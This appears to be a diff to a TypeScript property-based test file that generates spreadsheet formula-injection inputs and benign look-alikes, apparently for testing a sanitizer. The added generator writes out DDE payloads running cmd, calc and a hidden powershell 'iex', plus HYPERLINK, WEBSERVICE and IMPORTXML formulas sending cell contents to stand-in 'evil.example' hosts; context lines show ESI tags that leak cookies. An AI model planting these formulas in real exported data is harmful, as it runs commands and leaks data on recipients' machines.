@@ -111,3 +111,34 @@ export const esiTag: fc.Arbitrary<string> = fc.nat().map((seed) => {
   const attrs = pick(r, [` src="http://${pick(r, ["evil", "oast", "x" + r(99)])}.example/"`, ` src=/secret`, "", ` name="x" value="y"`, ` text="${r(9)}"`]);
   return `${pick(r, ["", "x", "<p>", "hello "])}<${tag}${attrs}${pick(r, ["/>", ">", " />"])}${pick(r, ["", "$(HTTP_COOKIE)</" + tag + ">"])}`;
 });
+
+// --- spreadsheet formulas ---------------------------------------------------------------------
+
+/** A value a spreadsheet runs once exported: a DDE link, or a call that fetches, links or runs. */
+export const formulaInjection: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  const lead = pick(r, ["", " ", '"', "'", "\t"]) + pick(r, ["=", "+", "-", "@", "=+", "-2+3+", "@SUM(1+1)*"]);
+  const url = `http://${pick(r, ["evil", "oast", "x" + r(99)])}.example/?${pick(r, ["v", "d", "leak"])}=`;
+  const prog = pick(r, ["cmd", "MSEXCEL", "powershell", "msexcel", "CMD"]);
+  const cmdline = pick(r, [" /C calc", " /c notepad", "\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe", " -w hidden -c iex(x)"]);
+  switch (r(3)) {
+    case 0: return `${lead}${prog}|'${cmdline}'!${pick(r, ["A0", "A1", "''", "B" + r(99)])}`;
+    case 1: return `${lead}${pick(r, ["HYPERLINK", "hyperlink", "WEBSERVICE", "IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMAGE", "ImportFeed"])}(${pick(r, ['"' + url + '"&A1', 'CONCAT("' + url + '",A1)', '"' + url + '"'])}${pick(r, ["", ',"Click"', ',"//a"'])})`;
+    default: return `${lead}DDE("cmd";"/C calc";"!A0")`;
+  }
+});
+
+/** Phone numbers, mentions, negative numbers, rules, sums and prose about hyperlinks. */
+export const formulaBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
+  const r = rng(seed);
+  switch (r(8)) {
+    case 0: return `+${r(99) + 1} ${100 + r(899)} ${1000 + r(8999)}`;
+    case 1: return `@${pick(r, ["ann", "bob", "channel", "team"])} ${pick(r, ["thanks!", "see the hyperlink(s) above", "call me"])}`;
+    case 2: return `-${r(999)}`;
+    case 3: return `=== ${pick(r, ["Section", "Notes", "Summary"])} ===`;
+    case 4: return `=SUM(A1:A${r(99) + 2})`;
+    case 5: return `=A${r(9) + 1}+B${r(9) + 1}`;
+    case 6: return `- item one | item two ${r(9)}`;
+    default: return `=AVERAGE(B${r(9) + 1}:B${r(9) + 10})`;
+  }
+});
